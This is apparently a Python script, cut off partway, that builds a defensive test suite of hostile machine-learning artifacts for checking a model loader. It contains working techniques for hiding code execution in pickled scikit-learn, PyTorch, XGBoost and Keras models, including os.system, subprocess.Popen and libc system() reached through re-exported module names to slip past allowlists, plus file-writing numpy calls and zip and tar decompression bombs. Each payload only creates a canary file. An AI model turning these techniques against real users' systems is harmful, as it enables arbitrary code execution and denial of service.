"""Build the project's own hostile suite (issue 9, "Trust that holds"): artifacts written as an attacker would.

    python scripts/make_hostile.py OUT_DIR --canary-dir DIR [--only CLASS ...]

Every case is written under ``OUT_DIR`` and listed in ``OUT_DIR/manifest.json``: ``id``, ``class`` (1-9 as in the
issue), ``path`` (relative to ``OUT_DIR``), ``hides`` (what it hides and how), ``checks`` (what each command must
do: ``inspect``, ``load``, ``load_trust``), ``canary`` (the path its payload would create), ``resource``,
``requires`` (frameworks needed to build it), ``naive`` (how an unguarded loader would open it, used by the tests
to prove the payload is live) and ``skipped`` (why it was not built, when a framework is missing).

Rules this script keeps:
- No payload is ever executed here. Pickles are written from opcodes (``pickletools`` opcode table, CPython
  ``Lib/pickle.py``), spliced into the streams that joblib's, pickle's and torch's own picklers write for real
  fitted models, or produced by pickling objects whose ``__reduce__`` returns ``(callable, args)`` (pickling
  records the callable's name; it does not call it). TensorFlow graphs are traced and saved, never run; the
  script asserts that the canary folder is still empty at the end.
- Every payload only creates ``<canary-dir>/<case-id>`` (a file, or a folder for ``joblib.memory.Memory``),
  except the ``memmap(..., mode="r")`` case, which reads a file the script writes beside the artifacts.
- Resource cases are small on disk (the largest, a 4 MiB GNU long name, is written as is) and expand only
  when read. The whole suite takes about 10 MB and 20 s to build.

Format facts used here, with their sources:
- joblib (``joblib/numpy_pickle.py``): an array is pickled as a ``NumpyArrayWrapper`` whose ``BUILD`` is
  followed by the raw bytes (one padding-length byte and padding unless ``numpy_array_alignment_bytes`` is None);
  arrays whose dtype ``hasobject`` (including structured dtypes with an ``O`` field) are a nested pickle instead.
  Whole-file compression is recognised by prefix (``joblib/compressor.py``): zlib ``0x78``, xz ``fd 37 7a 58 5a``,
  lz4 frame ``04 22 4d 18``. joblib < 0.10 (``numpy_pickle_compat.py``) kept arrays in side ``.npy`` files named
  by an ``NDArrayWrapper``, read with ``numpy.load(allow_pickle=True)``.
- Pickle protocol 4+ resolves dotted names by walking attributes (``Lib/pickle.py`` ``find_class``:
  ``_getattribute(sys.modules[module], name)``), so ``numpy.testing._private.utils`` + ``os.system`` reaches
  ``os.system``.
- LZ4 frame format (lz4/lz4 ``doc/lz4_Frame_format.md``): magic ``04 22 4d 18``, FLG, BD, header checksum =
  second byte of xxHash32 of the descriptor; blocks with the high bit of their size set are stored uncompressed;
  a zero size ends the frame.
- ZIP (PKWARE APPNOTE 6.3.x, sections 4.3.7, 4.3.12, 4.3.16): local header, central directory, end record.
  Overlapping entries follow D. Fifield, "A better zip bomb" (WOOT 2019): each local header is quoted by the
  previous entry's non-final stored DEFLATE block (RFC 1951 section 3.2.4), so all entries share one kernel.
- tar (GNU tar manual, "Basic Tar Format" and "GNU Extensions"): old GNU sparse headers (type ``S``) keep four
  ``(offset, numbytes)`` pairs at byte 386, ``isextended`` at 482 and the real size at 483; numbers too large
  for their octal field are written base-256 (first byte ``0x80``, then big-endian).
- Keras HDF5 (tf-keras ``saving/legacy/hdf5_format.py``, keras ``src/legacy/saving/legacy_h5_format.py``): the
  model is rebuilt from the root attribute ``model_config``; a ``Lambda`` layer's ``function`` holds
  base64(marshal(code)) (Keras 3: ``{"class_name": "__lambda__", "config": {"code": ...}}``, ``lambda_layer.py``).
"""

from __future__ import annotations

import argparse
import base64
import copy
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shlex
import shutil
import struct
import sys
import tarfile
import types
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent))
import make_samples  # noqa: E402  (one place for the sample layouts and the training data)

MIB = 1 << 20
GIB = 1 << 30


# Every case id and its class, known without building anything (the tests parametrize over it); ``build``
# checks that it wrote exactly these.
CASES: dict[str, int] = {
    "c1-popen-via-numpy-distutils": 1,
    "c1-cdll-via-xgboost-core": 1,
    "c1-unpickler-via-numpy-lib-format": 1,
    "c1-os-system-via-numpy-testing": 1,
    "c1-partial-in-pipeline-step": 1,
    "c1-os-system-via-sklearn-openmp": 1,
    "c2-memmap-w-plus": 2,
    "c2-fortranfile-w": 2,
    "c2-joblib-memory-location": 2,
    "c2-memmap-read-newobj": 2,
    "c2-open-memmap-function": 2,
    "c3-xgboost-with-preprocess-pkl": 3,
    "c3-torch-checkpoint-posix-system": 3,
    "c3-hf-pytorch-model-bin": 3,
    "c3-torchscript-archive": 3,
    "c3-keras-h5-decoy-first-config": 3,
    "c3-keras-h5-fixed-string-config": 3,
    "c3-keras-h5-lambda-in-wrapper": 3,
    "c3-savedmodel-with-assets-pickle": 3,
    "c4-tf1-main-op": 4,
    "c4-tf1-main-op-in-function": 4,
    "c4-tf2-resource-initializer": 4,
    "c4-signature-write-file": 4,
    "c4-signature-print-to-file": 4,
    "c5-py2-builtin-exec-inst": 5,
    "c5-timeit-setup": 5,
    "c5-dict-get-builtins-exec": 5,
    "c5-operator-attrgetter-module": 5,
    "c5-posixpath-os-walk": 5,
    "c5-functools-partial": 5,
    "c5-copyreg-reconstructor-popen": 5,
    "c5-copy-reg-reconstructor-py2": 5,
    "c5-torch-custom-class-and-system": 5,
    "c6-structured-dtype-object-field": 6,
    "c6-alignment-none-desync": 6,
    "c6-lz4-compressed": 6,
    "c6-xz-object-array": 6,
    "c6-zlib-structured-subprocess": 6,
    "c6-legacy-ndarraywrapper-side-npy": 6,
    "c7-repr-bomb-pickle": 7,
    "c7-repr-bomb-in-model": 7,
    "c7-nested-zip-bomb-in-tar": 7,
    "c7-nested-zip-params-bomb": 7,
    "c7-zlib-joblib-2gib": 7,
    "c7-gnu-longname-4mib": 7,
    "c7-sparse-10gib": 7,
    "c7-sparse-plain-tar": 7,
    "c7-zip-small-entries-gibs": 7,
    "c7-zip-overlapping-entries": 7,
    "c7-zip-overlapping-low-ratio": 7,
    "c9-hf-config-deep-json": 9,
    "c9-hf-config-unclosed": 9,
    "c9-safetensors-deep-header": 9,
    "c9-keras-zip-deep-config": 9,
    "c9-xgboost-json-deep": 9,
    "c9-pax-path-1mb": 9,
    "c9-zip-name-64k": 9,
    "c9-gnu-longname-deep-path": 9,
    "c9-predict-invalid-utf8": 9,
    "c9-predict-deep-json": 9,
    "c9-predict-unclosed-json": 9,
    "c9-predict-nan-rows": 9,
    "c9-predict-folder": 9,
}


# --------------------------------------------------------------------------------------------------------------
# Pickle opcode fragments. Each fragment pushes exactly one object and never touches the memo, so it can be
# spliced into a stream written by another pickler without disturbing that pickler's memo indices.

def p_str(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def p_short_str(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode("utf-8")
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def p_bytes(b: bytes) -> bytes:
    """BINBYTES (protocol 3)."""
    return b"B" + struct.pack("<I", len(b)) + b


def p_int(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


P_NONE = b"N"


def p_tuple(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def p_list(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"l"


def p_global(module: str, name: str) -> bytes:
    """GLOBAL (text operands; dotted names are walked when the stream's protocol is >= 4)."""
    return b"c" + f"{module}\n{name}\n".encode()


def p_stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4)."""
    return p_short_str(module) + p_short_str(name) + b"\x93"


def p_call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)`` with REDUCE."""
    return func + p_tuple(*args) + b"R"


def p_newobj(cls: bytes, *args: bytes) -> bytes:
    """``cls.__new__(cls, *args)`` with NEWOBJ (protocol 2)."""
    return cls + p_tuple(*args) + b"\x81"


def p_inst(module: str, name: str, *args: bytes) -> bytes:
    """``module.name(*args)`` with the protocol-0 INST opcode (the name is inline, never on the stack)."""
    return b"(" + b"".join(args) + b"i" + f"{module}\n{name}\n".encode()


def whole_pickle(fragment: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + fragment + b"."


class Raw:
    """A placeholder whose pickled form is the given opcode fragment (see ``_RawMixin``)."""

    def __init__(self, data: bytes):
        self.data = data

    def __call__(self, *args):  # picklers insist that a reduce callable is callable; never called
        raise RuntimeError("placeholder")


class Payload:
    """Pickles as ``func(*args)``; pickling records the name of ``func`` and does not call it."""

    def __init__(self, func: Callable, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def _raw_dispatch(pickler_base) -> dict:
    table = dict(pickler_base.dispatch)
    table[Raw] = lambda self, obj: self.write(obj.data)
    return table


class RawPickler(pickle._Pickler):
    """The pure-Python pickler, writing ``Raw`` placeholders verbatim."""

    dispatch = _raw_dispatch(pickle._Pickler)


def joblib_bytes(obj, *, aligned: bool = True, protocol: int = pickle.HIGHEST_PROTOCOL) -> bytes:
    """What ``joblib.dump(obj, f, protocol=protocol)`` writes (uncompressed), ``Raw`` placeholders verbatim.

    ``aligned=False`` writes every array wrapper with ``numpy_array_alignment_bytes=None``, as joblib does for
    file objects without ``tell()``. Python 2 module names (``__builtin__``, ``copy_reg``) are only mapped by
    unpicklers reading protocol < 3 streams (``Lib/pickle.py`` ``find_class``), so such payloads use protocol 2;
    dotted qualnames are only walked in protocol >= 4 streams."""
    from joblib.numpy_pickle import NumpyArrayWrapper, NumpyPickler

    class HostileNumpyPickler(NumpyPickler):
        dispatch = _raw_dispatch(NumpyPickler)

        def _create_array_wrapper(self, array):
            wrapper = super()._create_array_wrapper(array)
            if not aligned:
                wrapper = NumpyArrayWrapper(wrapper.subclass, wrapper.shape, wrapper.order, wrapper.dtype,
                                            allow_mmap=wrapper.allow_mmap, numpy_array_alignment_bytes=None)
            return wrapper

    buf = io.BytesIO()
    HostileNumpyPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def torch_save_bytes(obj) -> bytes:
    """``torch.save(obj)`` (zip format, ``data.pkl`` inside) with ``Raw`` placeholders written verbatim."""
    import torch

    module = types.ModuleType("hostile_pickle")
    module.Pickler = RawPickler
    buf = io.BytesIO()
    torch.save(obj, buf, pickle_module=module)
    return buf.getvalue()


# --------------------------------------------------------------------------------------------------------------
# Compression and container helpers written by hand.

def xxh32(data: bytes, seed: int = 0) -> int:
    """xxHash32 (Cyan4973/xxHash ``doc/xxhash_spec.md``), enough for an LZ4 frame header checksum."""
    p1, p2, p3, p4, p5 = 2654435761, 2246822519, 3266489917, 668265263, 374761393
    m = 0xFFFFFFFF

    def rotl(x: int, r: int) -> int:
        return ((x << r) | (x >> (32 - r))) & m

    n, i = len(data), 0
    if n >= 16:
        v = [(seed + p1 + p2) & m, (seed + p2) & m, seed & m, (seed - p1) & m]
        while i + 16 <= n:
            for k in range(4):
                lane = int.from_bytes(data[i + 4 * k:i + 4 * k + 4], "little")
                v[k] = (rotl((v[k] + lane * p2) & m, 13) * p1) & m
            i += 16
        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & m
    else:
        h = (seed + p5) & m
    h = (h + n) & m
    while i + 4 <= n:
        h = (rotl((h + int.from_bytes(data[i:i + 4], "little") * p3) & m, 17) * p4) & m
        i += 4
    while i < n:
        h = (rotl((h + data[i] * p5) & m, 11) * p1) & m
        i += 1
    h ^= h >> 15
    h = (h * p2) & m
    h ^= h >> 13
    h = (h * p3) & m
    h ^= h >> 16
    return h


assert xxh32(b"") == 0x02CC5D05  # the specification's test vector for the empty input


def lz4_frame_stored(data: bytes) -> bytes:
    """An LZ4 frame holding ``data`` in uncompressed blocks (valid for any LZ4 frame decoder)."""
    descriptor = bytes([0x60, 0x40])  # version 01, independent blocks; max block size 64 KB
    out = bytearray(b"\x04\x22\x4d\x18" + descriptor + bytes([(xxh32(descriptor) >> 8) & 0xFF]))
    for i in range(0, len(data), 64 * 1024):
        block = data[i:i + 64 * 1024]
        out += struct.pack("<I", len(block) | 0x80000000) + block
    out += b"\x00\x00\x00\x00"
    return bytes(out)


def _gf2_times(mat: list[int], vec: int) -> int:
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A+B from crc(A), crc(B) and len(B) (zlib ``crc32_combine``, GF(2) matrix method)."""
    if len2 <= 0:
        return crc1
    odd = [0xEDB88320] + [1 << i for i in range(31)]
    even = [_gf2_times(odd, odd[i]) for i in range(32)]
    odd = [_gf2_times(even, even[i]) for i in range(32)]
    while True:
        even = [_gf2_times(odd, odd[i]) for i in range(32)]
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = [_gf2_times(even, even[i]) for i in range(32)]
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def raw_deflate_zeros(n: int) -> bytes:
    """A complete raw DEFLATE stream (final block included) of ``n`` zero bytes.

    Large sizes repeat one 16 MiB segment ended by a full flush (RFC 1951 blocks; after ``Z_FULL_FLUSH`` the
    compressor keeps no history, so copies of the segment are independent) and end with an empty final block."""
    seg_size = 16 * MIB
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    if n <= seg_size:
        return c.compress(bytes(n)) + c.flush()
    segment = c.compress(bytes(seg_size)) + c.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(n, seg_size)
    return segment * whole + c.compress(bytes(rest)) + c.flush()


_ZERO_CRC: dict[int, int] = {}


def crc32_zeros(n: int) -> int:
    """CRC-32 of ``n`` zero bytes (16 MiB pieces combined with ``crc32_combine``)."""
    if n not in _ZERO_CRC:
        piece = 16 * MIB
        whole, rest = divmod(n, piece)
        crc_piece = zlib.crc32(bytes(min(n, piece)))
        crc = 0
        for _ in range(whole):
            crc = crc32_combine(crc, crc_piece, piece)
        _ZERO_CRC[n] = crc32_combine(crc, zlib.crc32(bytes(rest)), rest)
    return _ZERO_CRC[n]


@dataclass
class ZipEntry:
    name: bytes
    method: int  # 0 stored, 8 deflated
    crc: int
    csize: int
    usize: int
    offset: int = 0


def zip_local_header(e: ZipEntry) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, e.method, 0, 0x21, e.crc, e.csize, e.usize,
                       len(e.name), 0) + e.name


def zip_central(entries: list[ZipEntry], at: int) -> bytes:
    cd = b"".join(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, e.method, 0, 0x21, e.crc, e.csize,
                              e.usize, len(e.name), 0, 0, 0, 0, 0o100644 << 16, e.offset) + e.name for e in entries)
    return cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(cd), at, 0)


def zip_bytes(members: list[tuple[str, bytes, bytes | None, int, int]]) -> bytes:
    """A zip of ``(name, compressed_data, None, crc, usize)`` deflated entries or ``(name, data, b"stored", ...)``."""
    out = bytearray()
    entries = []
    for name, data, stored, crc, usize in members:
        e = ZipEntry(name.encode(), 0 if stored else 8, crc, len(data), usize, len(out))
        out += zip_local_header(e) + data
        entries.append(e)
    return bytes(out + zip_central(entries, len(out)))


def stored(name: str, data: bytes) -> tuple:
    return (name, data, b"stored", zlib.crc32(data), len(data))


def deflated(name: str, data: bytes) -> tuple:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return (name, c.compress(data) + c.flush(), None, zlib.crc32(data), len(data))


def tar_gz(out: Path, members: dict[str, bytes], mode: str = "w:gz") -> Path:
    out.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(out, mode, format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mode = 0o644
            tf.addfile(ti, io.BytesIO(data))
    return out


def _tar_octal(n: int, width: int) -> bytes:
    """A tar number field: octal digits and a NUL, or GNU base-256 (first byte 0x80) when it does not fit."""
    digits = oct(n)[2:]
    if len(digits) < width:
        return digits.rjust(width - 1, "0").encode() + b"\0"
    return b"\x80" + n.to_bytes(width - 1, "big")


def gnu_sparse_header(name: str, stored_size: int, real_size: int, regions: list[tuple[int, int]]) -> bytes:
    """An old-GNU sparse member header (type ``S``)."""
    assert len(regions) <= 4
    h = bytearray(512)
    h[0:len(name)] = name.encode()
    h[100:108] = _tar_octal(0o644, 8)
    h[108:116] = _tar_octal(0, 8)
    h[116:124] = _tar_octal(0, 8)
    h[124:136] = _tar_octal(stored_size, 12)
    h[136:148] = _tar_octal(0, 12)
    h[148:156] = b" " * 8
    h[156:157] = b"S"
    h[257:265] = b"ustar  \0"
    for i, (off, size) in enumerate(regions):
        base = 386 + 24 * i
        h[base:base + 12] = _tar_octal(off, 12)
        h[base + 12:base + 24] = _tar_octal(size, 12)
    h[482] = 0
    h[483:495] = _tar_octal(real_size, 12)
    h[148:156] = f"{sum(h):06o}\0 ".encode()
    assert len(h) == 512
    return bytes(h)


def tar_member_bytes(name: str, data: bytes) -> bytes:
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    ti.mode = 0o644
    block = ti.tobuf(format=tarfile.GNU_FORMAT)
    return block + data + b"\0" * (-len(data) % 512)


# --------------------------------------------------------------------------------------------------------------
# The working models the payloads hide in.

@dataclass
class Ctx:
    out: Path
    canary_dir: Path
    cases: list[dict] = field(default_factory=list)
    _fitted: dict = field(default_factory=dict)

    def canary(self, cid: str) -> str:
        return str(self.canary_dir / cid)

    def touch(self, cid: str) -> str:
        return f"touch {shlex.quote(self.canary(cid))}"

    def create_code(self, cid: str) -> str:
        """Python source that creates the canary file."""
        return f"open({self.canary(cid)!r}, 'w').close()"

    def logistic(self):
        if "lr" not in self._fitted:
            from sklearn.linear_model import LogisticRegression

            X, y = make_samples.make_data()
            self._fitted["lr"] = LogisticRegression(max_iter=200).fit(X, y)
        return copy.deepcopy(self._fitted["lr"])

    def pipeline(self):
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler

        X, y = make_samples.make_data()
        return Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(X, y)

    def sklearn_tar(self, cid: str, model_bytes: bytes, name: str = "model.joblib", extra: dict | None = None) -> str:
        """A SageMaker scikit-learn container artifact: ``model.joblib`` + ``code/inference.py``."""
        rel = f"{cid}/model.tar.gz"
        tar_gz(self.out / rel, {name: model_bytes, "code/inference.py": make_samples.SKLEARN_INFERENCE.encode(),
                                **(extra or {})})
        return rel


def with_hidden(model, key: str, value):
    """The fitted estimator with one more attribute in its pickled state (ignored by ``predict``)."""
    model.__dict__[key] = value
    return model


CHECK_PICKLE = {"inspect": "refuse-or-flag", "load": "refuse", "load_trust": "refuse"}
CHECK_DEFAULT_ONLY = {"inspect": "refuse-or-flag", "load": "refuse", "load_trust": None}


def add(ctx: Ctx, cid: str, cls: int, rel: str, hides: str, *, checks: dict | None = None, resource: bool = False,
        naive: dict | None = None, predict: str | None = None, api: bool = False, asynchronous: bool = False,
        requires: tuple = (), canary: bool = True) -> None:
    """Record a case. ``verdicts``: what ``inspect`` may call it when it exits 0 (a pickle calling a dangerous
    function is ``dangerous``, not merely ``unknown-types``, which would tell the user that --trust is enough;
    code that a framework runs by design, such as a Lambda, TorchScript or a graph op, may be ``code``)."""
    checks = dict(checks or CHECK_PICKLE)
    if checks == CHECK_PICKLE:
        checks["verdicts"] = ["dangerous"]
    elif checks == CHECK_DEFAULT_ONLY:
        checks["verdicts"] = ["code", "dangerous"]
    ctx.cases.append({
        "id": cid, "class": cls, "path": rel, "hides": hides, "checks": checks,
        "resource": resource, "naive": naive, "predict": predict, "api": api, "async": asynchronous,
        "requires": list(requires), "canary": ctx.canary(cid) if canary else None, "skipped": None,
    })


def skip(ctx: Ctx, cid: str, cls: int, hides: str, reason: str, requires: tuple) -> None:
    ctx.cases.append({"id": cid, "class": cls, "path": None, "hides": hides, "checks": {}, "resource": False,
                      "naive": None, "predict": None, "api": False, "async": False, "requires": list(requires),
                      "canary": None, "skipped": reason})


# --------------------------------------------------------------------------------------------------------------
# Class 1: names resolved through module attributes (re-exports, dotted qualnames), in working sklearn artifacts.

def class1(ctx: Ctx) -> None:
    naive = {"loader": "joblib", "member": "model.joblib"}

    cid = "c1-popen-via-numpy-distutils"
    frag = p_call(p_stack_global("numpy.distutils.exec_command", "subprocess.Popen"),
                  p_list(p_str("touch"), p_str(ctx.canary(cid))))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_calibration", Raw(frag))))
    add(ctx, cid, 1, rel, "subprocess.Popen reached as qualname 'subprocess.Popen' of numpy.distutils.exec_command "
        "(STACK_GLOBAL attribute walk), called with ['touch', canary]; hidden in a fitted LogisticRegression's "
        "state", naive=naive, api=True, asynchronous=True)

    cid = "c1-cdll-via-xgboost-core"
    call_system = p_call(p_global("numpy.lib.npyio", "methodcaller"), p_str("system"),
                         p_bytes(ctx.touch(cid).encode()))
    libc = p_call(p_stack_global("xgboost.core", "ctypes.CDLL"), P_NONE)
    frag = call_system + p_tuple(libc) + b"R"
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_calibration", Raw(frag))))
    add(ctx, cid, 1, rel, "operator.methodcaller re-exported by numpy.lib.npyio, applied to ctypes.CDLL(None) "
        "reached through xgboost.core.ctypes: libc system(); hidden in a fitted LogisticRegression's state",
        naive=naive)

    cid = "c1-unpickler-via-numpy-lib-format"
    inner = whole_pickle(p_call(p_global("posix", "system"), p_str(ctx.touch(cid))), protocol=2)
    unpickler = p_call(p_stack_global("numpy.lib.format", "pickle.Unpickler"),
                       p_call(p_global("joblib.pool", "BytesIO"), p_bytes(inner)))
    load = p_call(p_stack_global("numpy.testing._private.utils", "operator.methodcaller"), p_str("load"))
    frag = load + p_tuple(unpickler) + b"R"
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_calibration", Raw(frag))))
    add(ctx, cid, 1, rel, "a second pickle (posix.system) as bytes, run by _pickle.Unpickler reached through "
        "numpy.lib.format.pickle over io.BytesIO re-exported by joblib.pool, via operator.methodcaller reached "
        "through numpy.testing._private.utils.operator", naive=naive, api=True)

    cid = "c1-os-system-via-numpy-testing"
    frag = p_call(p_stack_global("numpy.testing._private.utils", "os.system"), p_str(ctx.touch(cid)))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_calibration", Raw(frag))))
    add(ctx, cid, 1, rel, "os.system as the dotted qualname 'os.system' of numpy.testing._private.utils",
        naive=naive)

    cid = "c1-partial-in-pipeline-step"
    pipe = ctx.pipeline()
    part = p_call(p_global("numpy.testing._private.utils", "partial"),
                  p_stack_global("joblib.memory", "os.system"), p_str(ctx.touch(cid)))
    frag = part + p_tuple() + b"R"
    with_hidden(pipe.named_steps["scale"], "_fit_cache", Raw(frag))
    rel = ctx.sklearn_tar(cid, joblib_bytes(pipe))
    add(ctx, cid, 1, rel, "functools.partial re-exported by numpy.testing._private.utils wrapping os.system "
        "reached through joblib.memory.os; inside the StandardScaler step of a Pipeline, not the top object",
        naive=naive)

    cid = "c1-os-system-via-sklearn-openmp"
    frag = p_call(p_global("sklearn.utils._openmp_helpers", "os.system"), p_str(ctx.touch(cid)))
    model = joblib_bytes(with_hidden(ctx.logistic(), "_calibration", Raw(frag)))
    rel = f"{cid}/model.tar.gz"
    tar_gz(ctx.out / rel, {"model.pkl": model})
    add(ctx, cid, 1, rel, "os.system through sklearn.utils._openmp_helpers.os with the protocol-0 GLOBAL opcode "
        "(dotted name walked because the stream is protocol 5); a bare model.pkl without code/",
        naive={"loader": "joblib", "member": "model.pkl"})


# --------------------------------------------------------------------------------------------------------------
# Class 2: allowlisted-package classes with side effects.

def class2(ctx: Ctx) -> None:
    naive = {"loader": "joblib", "member": "model.joblib"}

    cid = "c2-memmap-w-plus"
    frag = p_call(p_global("numpy", "memmap"), p_str(ctx.canary(cid)), p_str("uint8"), p_str("w+"), p_int(0),
                  p_tuple(p_int(64)))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_buffer", Raw(frag))))
    add(ctx, cid, 2, rel, "numpy.memmap(canary, 'uint8', 'w+', 0, (64,)) creates a file", naive=naive, api=True)

    cid = "c2-fortranfile-w"
    frag = p_call(p_stack_global("scipy.io._fortran", "FortranFile"), p_str(ctx.canary(cid)), p_str("w"))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_log", Raw(frag))))
    add(ctx, cid, 2, rel, "scipy.io._fortran.FortranFile(canary, 'w') (its exact module) truncates/creates a file",
        naive=naive)

    cid = "c2-joblib-memory-location"
    frag = p_call(p_global("joblib.memory", "Memory"), p_str(ctx.canary(cid)))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_memory", Raw(frag))))
    add(ctx, cid, 2, rel, "joblib.memory.Memory(location=canary) creates a folder", naive=naive)

    cid = "c2-memmap-read-newobj"
    secret = ctx.out / cid / "secret.txt"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text("a secret the model object must never read\n")
    frag = p_newobj(p_global("numpy.core.memmap", "memmap"), p_str(str(secret)), p_str("uint8"), p_str("r"))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_vocab", Raw(frag))))
    add(ctx, cid, 2, rel, "numpy.core.memmap.memmap.__new__ (NEWOBJ) with mode 'r' reads a file outside the "
        "artifact into the model object", naive=None, canary=False)

    cid = "c2-open-memmap-function"
    frag = p_call(p_global("numpy.lib.format", "open_memmap"), p_str(ctx.canary(cid)), p_str("w+"),
                  p_str("float32"), p_tuple(p_int(4)))
    rel = ctx.sklearn_tar(cid, joblib_bytes(with_hidden(ctx.logistic(), "_buffer", Raw(frag))))
    add(ctx, cid, 2, rel, "numpy.lib.format.open_memmap (a function of an allowlisted package) writes a .npy file",
        naive=naive)


# --------------------------------------------------------------------------------------------------------------
# Class 3: the verdict must come from every detector, not the one that wins.

def class3(ctx: Ctx, have: dict) -> None:
    cid = "c3-xgboost-with-preprocess-pkl"
    if have["xgboost"]:
        import xgboost as xgb

        X, y = make_samples.make_data()
        booster = xgb.train({"objective": "binary:logistic", "max_depth": 2}, xgb.DMatrix(X, label=y), 5)
        pre = whole_pickle(p_call(p_global("posix", "system"), p_str(ctx.touch(cid))))
        rel = f"{cid}/model.tar.gz"
        tar_gz(ctx.out / rel, {"xgboost-model": bytes(booster.save_raw("ubj")), "preprocess.pkl": pre})
        add(ctx, cid, 3, rel, "a real XGBoost model with preprocess.pkl beside it naming posix.system",
            naive={"loader": "pickle", "member": "preprocess.pkl"})
    else:
        skip(ctx, cid, 3, "xgboost + preprocess.pkl", "xgboost is not installed", ("xgboost",))

    torch_cases = ["c3-torch-checkpoint-posix-system", "c3-hf-pytorch-model-bin", "c3-torchscript-archive"]
    if not have["torch"]:
        for c in torch_cases:
            skip(ctx, c, 3, "torch artifact", "torch is not installed", ("torch",))
    else:
        import torch

        cid = "c3-torch-checkpoint-posix-system"
        net = torch.nn.Linear(4, 2)
        frag = p_call(p_global("posix", "system"), p_str(ctx.touch(cid)))
        data = torch_save_bytes({"model_state_dict": net.state_dict(), "epoch": 3, "optimizer": Raw(frag)})
        rel = f"{cid}/model.tar.gz"
        tar_gz(ctx.out / rel, {"model.pth": data})
        add(ctx, cid, 3, rel, "a torch.save zip checkpoint whose data.pkl calls posix.system beside the state dict",
            naive={"loader": "torch", "member": "model.pth"}, api=True, requires=("torch",))

        cid = "c3-hf-pytorch-model-bin"
        if have["transformers"]:
            from transformers import BertConfig, BertForSequenceClassification

            cfg = BertConfig(vocab_size=40, hidden_size=8, num_hidden_layers=1, num_attention_heads=2,
                             intermediate_size=8, max_position_embeddings=16, num_labels=2)
            model = BertForSequenceClassification(cfg)
            folder = ctx.out / cid / "model"
            folder.mkdir(parents=True)
            model.save_pretrained(folder, safe_serialization=False)
            state = dict(model.state_dict())
            state["bert.pooler.calibration"] = Raw(p_call(p_global("os", "system"), p_str(ctx.touch(cid))))
            (folder / "pytorch_model.bin").write_bytes(torch_save_bytes(state))
            add(ctx, cid, 3, f"{cid}/model", "a Hugging Face folder (BERT config.json) whose pytorch_model.bin "
                "state dict holds an os.system call among the tensors",
                naive={"loader": "torch", "member": "pytorch_model.bin"}, requires=("torch", "transformers"))
        else:
            skip(ctx, cid, 3, "HF folder", "transformers is not installed", ("transformers",))

        cid = "c3-torchscript-archive"
        scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()))
        buf = io.BytesIO()
        torch.jit.save(scripted, buf)
        rel = f"{cid}/model.tar.gz"
        tar_gz(ctx.out / rel, {"model.pt": buf.getvalue()})
        add(ctx, cid, 3, rel, "a TorchScript archive (serialized code runs at load); trust=True may load it",
            checks=CHECK_DEFAULT_ONLY, requires=("torch",), canary=False)

    keras_cases = ["c3-keras-h5-decoy-first-config", "c3-keras-h5-fixed-string-config",
                   "c3-keras-h5-lambda-in-wrapper"]
    if not (have["keras"] and have["h5py"]):
        for c in keras_cases:
            skip(ctx, c, 3, "Keras HDF5", "keras/h5py is not installed", ("keras", "h5py"))
    else:
        for cid, how in zip(keras_cases, ("decoy-first", "fixed-string", "wrapper")):
            rel = f"{cid}/model.h5"
            keras_h5(ctx, cid, ctx.out / rel, how)
            hides = {
                "decoy-first": "a decoy Dense-only config stored first in the HDF5 global heap; the root "
                               "model_config (read by Keras) holds a Lambda whose bytecode creates the canary",
                "fixed-string": "model_config stored as a fixed-length string attribute (not in the global heap) "
                                "holding the Lambda, with a vlen decoy config in another attribute",
